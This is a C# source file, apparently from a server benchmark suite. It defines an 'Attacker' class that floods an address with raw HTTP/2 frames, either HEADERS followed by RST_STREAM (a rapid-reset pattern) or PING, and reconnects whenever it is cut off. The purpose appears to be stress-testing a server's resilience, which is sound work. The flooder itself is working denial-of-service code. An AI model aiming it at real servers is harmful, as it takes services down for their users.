using System.Buffers.Binary;
using System.Globalization;
using System.Net.Sockets;

namespace Hitl.Benchmarks;

/// <summary>One caller that floods an address from a thread of its own: it connects, sends frames as fast as it can, and begins again when it is cut.</summary>
/// <remarks>
/// It has a processor to itself, as it would on a machine of its own. Sharing those of the server, others would wait for the scheduler's slice, whatever the server does: they did
/// so as long while the same flood went to a port that does nothing.
/// </remarks>
internal sealed class Attacker
{
    /// <summary>The processor that is the attacker's; a bit.</summary>
    private const ulong Processor = 2;

    private const int FramesPerConnection = 100_000;
    private const int FramesPerLook = 16;
    private const int MostBytes = 32;

    private readonly CancellationTokenSource _stop = new();
    private readonly byte[] _answers = new byte[65_536];
    private readonly Thread _thread;

    /// <param name="address">Whom it floods.</param>
    /// <param name="frame">Writes the frames of a number into a buffer and says how many bytes they are.</param>
    public Attacker(string address, FrameWriter frame)
    {
        _thread = new(() => Run(address, frame)) { IsBackground = true };
        _thread.Start();
    }

    /// <summary>Writes the frames of a number into a buffer and says how many bytes they are: an array for each would keep the collector busy, and stop the callers that share this process.</summary>
    public delegate int FrameWriter(int number, Span<byte> into);

    public int Connections { get; private set; }

    public long Frames { get; private set; }

    /// <summary>HEADERS (an indexed :method POST, :scheme http, :path /) and RST_STREAM.</summary>
    public static int Reset(int number, Span<byte> into)
    {
        ReadOnlySpan<byte> frames = [0, 0, 3, 1, 5, 0, 0, 0, 0, 0x83, 0x86, 0x84, 0, 0, 4, 3, 0, 0, 0, 0, 0, 0, 0, 0, 8];
        frames.CopyTo(into);
        BinaryPrimitives.WriteInt32BigEndian(into[5..], (2 * number) + 1);
        BinaryPrimitives.WriteInt32BigEndian(into[17..], (2 * number) + 1);
        return frames.Length;
    }

    /// <summary>PING.</summary>
    public static int Ping(int number, Span<byte> into)
    {
        ReadOnlySpan<byte> frame = [0, 0, 8, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        frame.CopyTo(into);
        BinaryPrimitives.WriteInt64BigEndian(into[9..], number);
        return frame.Length;
    }

    public void Stop()
    {
        _stop.Cancel();
        _thread.Join();
        _stop.Dispose();
    }

    private void Run(string address, FrameWriter frame)
    {
        Processors.TakeForThread(Processor);
        var parts = address.Split(':');
        while (!_stop.IsCancellationRequested)
        {
            using var caller = new TcpClient();
            try
            {
                caller.Connect(parts[0], int.Parse(parts[1], CultureInfo.InvariantCulture));
                Connections++;
                Flood(caller.GetStream(), frame);
            }
            catch (Exception failure) when (failure is IOException or SocketException)
            {
                // Cut while it wrote.
            }
        }
    }

    private void Flood(NetworkStream connection, FrameWriter frame)
    {
        Span<byte> frames = stackalloc byte[MostBytes];
        // Preface and empty settings.
        connection.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        connection.Write([0, 0, 0, 4, 0, 0, 0, 0, 0]);
        for (var i = 0; i < FramesPerConnection && !_stop.IsCancellationRequested; i++)
        {
            connection.Write(frames[..frame(i, frames)]);
            Frames++;
            // A server that cannot get rid of its answers would stop reading.
            if (i % FramesPerLook == 0 && connection.DataAvailable && connection.Read(_answers) == 0) return;
        }
    }
}
